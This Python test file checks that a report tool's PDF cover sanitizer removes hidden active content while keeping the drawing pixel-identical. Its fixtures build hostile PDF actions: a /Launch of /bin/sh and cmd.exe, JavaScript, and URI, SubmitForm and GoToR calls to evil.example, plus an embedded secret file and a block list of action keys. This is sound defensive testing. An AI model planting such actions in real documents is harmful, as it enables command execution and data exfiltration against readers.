"""Session 23 hostile review: a cover PDF is copied by an allowlist per kind of object (`writers/pdf/drawn.py`).

An action, script, link or embedded file hidden under a key the old denylist did not know — of a font,
a font descriptor, an XObject, a graphics state, a resources dictionary, inside a data array, under a
Form XObject's own resources — reached the printed PDF. Each cover here hides them and is read back with
qpdf's JSON (every object, every key, at any depth); the drawing itself is compared pixel by pixel
(pdftoppm) with the original file's. The build reads the cover once (`_CoverReader.open`), not three or
four times.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import tempfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pymupdf
import pytest

from reportpress.cli import main
from reportpress.writers.pdf import merge
from reportpress.writers.pdf.drawn import MAX_DEPTH
from reportpress.writers.pdf.merge import CoverRefused, drawn_cover
from tests.test_hostile_covers import A4_BOX, CATALOG, DRAWING, SHAPES, project, raw_pdf, run, stream

# What makes a PDF do something instead of draw: none of these keys may be anywhere in a cover's copy
ACTIVE_KEYS = {"/A", "/AA", "/JS", "/JavaScript", "/URI", "/Launch", "/S", "/Annots", "/EmbeddedFile",
               "/EmbeddedFiles", "/EF", "/OpenAction", "/SubmitForm", "/GoToR", "/AcroForm", "/Names", "/F",
               "/Next", "/Win", "/Mac", "/Unix"}
MARKERS = (b"evil.example", b"app.alert", b"/bin/sh", b"SECRET-FILE")
# an action of every kind the review named, chained by /Next, with an embedded file
ACTION = (b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> /Next [<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
          b" << /S /URI /URI (http://evil.example/u) >> << /S /SubmitForm /F (http://evil.example/s) >>"
          b" << /S /GoToR /F (http://evil.example/r.pdf) /D [0 /Fit] >>] >>")
EMBEDDED = stream(b"SECRET-FILE", b"/Type /EmbeddedFile ")


def hidden(under: bytes) -> bytes:
    """`under` holding the action directly (/Evil), by reference (/Ref2 → object 9), as /A and /AA, and an
    embedded file's specification (/Spec → object 10)."""
    return under + b" /Evil " + ACTION + b" /Ref2 9 0 R /A 9 0 R /AA << /O 9 0 R >> /Spec << /Type /Filespec " \
                   b"/F (x.txt) /EF << /F 10 0 R >> >>"


def cover(path: Path, *, font: bytes = b"", descriptor: bytes = b"", resources: bytes = b"", xobject: bytes = b"",
          gstate: bytes = b"", image: bytes = b"", widths: bytes = b"[600]") -> Path:
    """An A4 cover: a TrueType font with a descriptor, an ExtGState, a Form XObject that draws an image —
    each with `…` added to its dictionary."""
    drawing = b"/G gs " + SHAPES + b" q 100 0 0 100 100 100 cm /X Do Q " + DRAWING
    objects = [
        CATALOG,
        b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
        b"<< /Type /Font /Subtype /TrueType /BaseFont /Helvetica /FirstChar 32 /LastChar 32 /Widths " + widths
        + b" /FontDescriptor 6 0 R " + font + b" >>",
        stream(drawing),
        b"<< /Type /Page /Parent 2 0 R /MediaBox " + A4_BOX + b" /Contents 4 0 R /Resources << /Font << /F1 3 0 R >>"
        b" /ExtGState << /G << /LW 2 " + gstate + b" >> >> /XObject << /X 7 0 R >> " + resources + b" >> >>",
        b"<< /Type /FontDescriptor /FontName /Helvetica /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0"
        b" /Ascent 900 /Descent -200 /CapHeight 700 /StemV 80 " + descriptor + b" >>",
        stream(b"/Im 0 0 1 1 re f q 1 0 0 1 0 0 cm /Im Do Q",
               b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /Im 8 0 R >> >> "
               + xobject + b" "),
        stream(b"\x00\x80\xff\x40", b"/Type /XObject /Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceGray "
                                    b"/BitsPerComponent 8 " + image + b" "),
        ACTION,
        EMBEDDED,
    ]
    return raw_pdf(path, objects)


PLACES = {
    "font": {"font": hidden(b"")},
    "font-descriptor": {"descriptor": hidden(b"")},
    "resources": {"resources": hidden(b"")},
    "form-xobject": {"xobject": hidden(b"")},
    "image-xobject": {"image": hidden(b"")},
    "extgstate": {"gstate": hidden(b"")},
    "in-a-data-array": {"widths": b"[600 " + ACTION + b" 9 0 R [[" + ACTION + b"]]]"},
    # an action where a font file goes, and an embedded file: a stream, so copied as a font program (its
    # bytes are the cover's own, and draw nothing), without its dictionary's /Type /EmbeddedFile
    "font-as-its-file": {"descriptor": b"/FontFile2 9 0 R /FontFile 10 0 R"},
    "everywhere": {"font": hidden(b""), "descriptor": hidden(b""), "resources": hidden(b""),
                   "xobject": hidden(b""), "gstate": hidden(b""), "image": hidden(b"")},
}


def qpdf_objects(data: bytes, tmp_path: Path) -> dict[str, Any]:
    path = tmp_path / "copy.pdf"
    path.write_bytes(data)
    dump = subprocess.run(["qpdf", "--json", "--json-stream-data=inline", str(path)], capture_output=True,
                          text=True, check=True).stdout
    objects: dict[str, Any] = json.loads(dump)["qpdf"][1]
    return objects


DRAWING_SUBTYPES = ("/Transparency", "/Luminosity", "/Alpha")  # a group's /S, a soft mask's: no action


def keys(value: Any) -> Iterator[str]:
    """Every dictionary key in a qpdf JSON value, at any depth (a stream's dictionary too); an /S only when
    it is not a transparency group's or a soft mask's."""
    if isinstance(value, dict):
        for key, item in value.items():
            if key.startswith("/") and not (key == "/S" and item in DRAWING_SUBTYPES):
                yield key
            yield from keys(item)
    elif isinstance(value, list):
        for item in value:
            yield from keys(item)


@pytest.mark.parametrize("place", PLACES.values(), ids=PLACES.keys())
def test_an_action_hidden_under_an_unknown_key_is_not_in_the_copy(place: dict[str, bytes], tmp_path: Path) -> None:
    original = cover(tmp_path / "front.pdf", **place).read_bytes()
    copy = drawn_cover(original).data
    objects = qpdf_objects(copy, tmp_path)
    found = set(keys(objects)) & ACTIVE_KEYS
    assert not found, found
    for marker in MARKERS:
        assert marker not in copy or (marker == b"SECRET-FILE" and b"/FontFile 10" in place.get("descriptor", b"")), \
            marker
    # the whole copy is what qpdf lists: catalog, info, page tree, page, contents, font, descriptor,
    # graphics state (direct), form, image — and the /Length objects pypdf writes for its streams
    kinds = [value.get("value", value.get("stream", {}).get("dict", {})).get("/Type") for value in objects.values()
             if isinstance(value, dict)]
    assert sorted(str(kind) for kind in kinds if kind) == sorted(
        ["/Catalog", "/Pages", "/Page", "/Font", "/FontDescriptor", "/XObject", "/XObject"])
    assert same_pixels(original, copy, tmp_path)


def test_a_build_with_a_cover_hiding_actions_everywhere_prints_none_of_them(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "source").mkdir()
    cover(tmp_path / "source" / "front.pdf", **PLACES["everywhere"])
    code, err = run("build", project(tmp_path, "front.pdf"), capsys, "--to", "pdf")
    assert code == 0, err
    qdf = subprocess.run(["qpdf", "--qdf", "--object-streams=disable", str(tmp_path / "output" / "r.pdf"), "-"],
                         capture_output=True, check=True).stdout
    for marker in MARKERS:
        assert marker not in qdf, marker
    for word in (b"/Launch", b"/JavaScript", b"/SubmitForm", b"/GoToR", b"/EmbeddedFile", b"/Annots", b"/URI"):
        assert word not in qdf, word


def rendered(data: bytes, path: Path) -> list[bytes]:
    path.write_bytes(data)
    subprocess.run(["pdftoppm", "-r", "50", "-png", str(path), str(path.with_suffix(""))], check=True)
    return [pymupdf.Pixmap(str(png)).samples for png in sorted(path.parent.glob(f"{path.stem}-*.png"))]


def same_pixels(original: bytes, copy: bytes, tmp_path: Path) -> bool:
    before, after = rendered(original, tmp_path / "before.pdf"), rendered(copy, tmp_path / "after.pdf")
    return bool(before) and before == after and any(len(set(page)) > 1 for page in after)  # not blank


def designed_cover() -> bytes:
    """A cover as a design tool writes one: CJK text (a Type0 font), a transparent fill, an image, a link."""
    with pymupdf.open() as document:
        page = document.new_page(width=595.28, height=841.89)
        page.insert_text((72, 72), "DESIGNED 封面", fontname="china-s", fontsize=30)
        page.draw_rect(pymupdf.Rect(50, 100, 300, 400), color=(1, 0, 0), fill=(0, 0.5, 1), fill_opacity=0.4)
        pixmap = pymupdf.Pixmap(pymupdf.csRGB, pymupdf.IRect(0, 0, 8, 8), 0)
        pixmap.set_rect(pixmap.irect, (200, 30, 30))
        page.insert_image(pymupdf.Rect(300, 400, 500, 600), pixmap=pixmap)
        page.insert_link({"kind": pymupdf.LINK_URI, "from": pymupdf.Rect(0, 0, 100, 100), "uri": "http://evil.example/"})
        return bytes(document.tobytes())


def predicted_images() -> bytes:
    """Two Flate images whose rows carry PNG predictor bytes (`/DecodeParms`, a dictionary and an array of
    one): without their parameters they decode to other pixels."""
    rows = b"".join(bytes([0]) + bytes([x * 60 % 256 for x in range(row, row + 4)]) for row in range(4))
    rows_up = bytes([0]) + bytes([200, 30, 30] * 8) + b"".join(bytes([2]) + bytes(24) for _ in range(7))
    return raw_pdf_bytes([
        CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox " + A4_BOX + b" /Contents 4 0 R /Resources << /XObject"
        b" << /I 5 0 R /J 6 0 R >> >> >>",
        stream(b"q 300 0 0 300 50 400 cm /I Do Q q 200 0 0 200 300 100 cm /J Do Q"),
        stream(zlib.compress(rows), b"/Type /XObject /Subtype /Image /Width 4 /Height 4 /ColorSpace /DeviceGray "
               b"/BitsPerComponent 8 /Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns 4 >> "),
        stream(zlib.compress(rows_up), b"/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceRGB "
               b"/BitsPerComponent 8 /Filter [/FlateDecode] /DecodeParms [<< /Predictor 12 /Columns 8 /Colors 3 >>] "),
    ])


def raw_pdf_bytes(objects: list[bytes]) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        return raw_pdf(Path(folder) / "x.pdf", objects).read_bytes()


def rewritten(tool: list[str], data: bytes) -> bytes:
    """`data` written again by another PDF producer (`tool` reads `IN` and writes `OUT`)."""
    if shutil.which(tool[0]) is None:
        pytest.skip(f"{tool[0]} is not installed")
    with tempfile.TemporaryDirectory() as folder:
        source, target = Path(folder) / "in.pdf", Path(folder) / "out.pdf"
        source.write_bytes(data)
        subprocess.run([str(source) if part == "IN" else str(target) if part == "OUT" else part for part in tool],
                       check=True, capture_output=True)
        return target.read_bytes()


PRODUCERS = {
    "pymupdf": designed_cover,
    "cairo": lambda: rewritten(["pdftocairo", "-pdf", "IN", "OUT"], designed_cover()),
    "ghostscript": lambda: rewritten(["gs", "-q", "-sDEVICE=pdfwrite", "-o", "OUT", "IN"], designed_cover()),
    "object-streams": lambda: rewritten(["qpdf", "--object-streams=generate", "IN", "OUT"], designed_cover()),
    "png-predictors": predicted_images,
}


@pytest.mark.parametrize("make", PRODUCERS.values(), ids=PRODUCERS.keys())
def test_a_designed_cover_draws_the_same_after_the_copy(make: Callable[[], bytes], tmp_path: Path) -> None:
    original = make()
    copy = drawn_cover(original).data
    assert same_pixels(original, copy, tmp_path)
    assert b"evil.example" not in copy and not set(keys(qpdf_objects(copy, tmp_path))) & ACTIVE_KEYS


def forms(count: int, cycle: bool = False) -> list[bytes]:
    """`count` Form XObjects (objects 6 on), each drawing the next; with `cycle`, the last draws the first."""
    chain = []
    for number in range(count):
        following = 6 if cycle and number == count - 1 else 7 + number
        if number == count - 1 and not cycle:
            chain.append(stream(SHAPES, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "))
        else:
            chain.append(stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources"
                                          b" << /XObject << /X %d 0 R >> >> " % following))
    return chain


def nested_cover(path: Path, chain: list[bytes]) -> Path:
    return raw_pdf(path, [CATALOG, b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>", b"null", stream(b"/X Do"),
                          b"<< /Type /Page /Parent 2 0 R /MediaBox " + A4_BOX + b" /Contents 4 0 R"
                          b" /Resources << /XObject << /X 6 0 R >> >> >>", *chain])


def test_forms_nested_within_the_depth_are_copied_and_a_cycle_ends(tmp_path: Path) -> None:
    # each form is 3 steps further (resources, its /XObject map, the form): 31 forms reach depth 93
    deep = nested_cover(tmp_path / "deep.pdf", forms(MAX_DEPTH // 3 - 1)).read_bytes()
    assert same_pixels(deep, drawn_cover(deep).data, tmp_path)
    looped = nested_cover(tmp_path / "loop.pdf", forms(3, cycle=True)).read_bytes()
    copy = drawn_cover(looped)
    assert len(qpdf_objects(copy.data, tmp_path)) < 20  # each form once


def test_forms_nested_past_the_depth_refuse_the_cover_in_one_message(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    nested_cover(tmp_path / "deep.pdf", forms(MAX_DEPTH))
    with pytest.raises(CoverRefused, match=f"nested more than {MAX_DEPTH} deep"):
        drawn_cover((tmp_path / "deep.pdf").read_bytes())
    (tmp_path / "source").mkdir()
    (tmp_path / "deep.pdf").rename(tmp_path / "source" / "front.pdf")
    for command in ("check", "build"):
        code, err = run(command, project(tmp_path, "front.pdf"), capsys)
        assert code == 1 and "Traceback" not in err, err
        assert f"front.pdf: the front cover PDF: its objects are nested more than {MAX_DEPTH} deep" in err, err
        assert len(err.strip().splitlines()) == 1, err


def test_a_build_reads_and_copies_a_cover_once(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """The check, the PDF/A check and the merge share one copy (`CoverSpec.drawn`)."""
    (tmp_path / "source").mkdir()
    (tmp_path / "source" / "front.pdf").write_bytes(nested_cover(tmp_path / "c.pdf", forms(1)).read_bytes())
    opened: list[int] = []
    real = merge._CoverReader.open
    monkeypatch.setattr(merge._CoverReader, "open", staticmethod(lambda data: opened.append(1) or real(data)))
    code, err = run("build", project(tmp_path, "front.pdf"), capsys, "--to", "pdf", "--pdf-variant", "pdf/a-2b")
    assert code == 0, err
    assert len(opened) == 1
    assert main(["check", str(tmp_path / "source" / "r.md")]) == 0
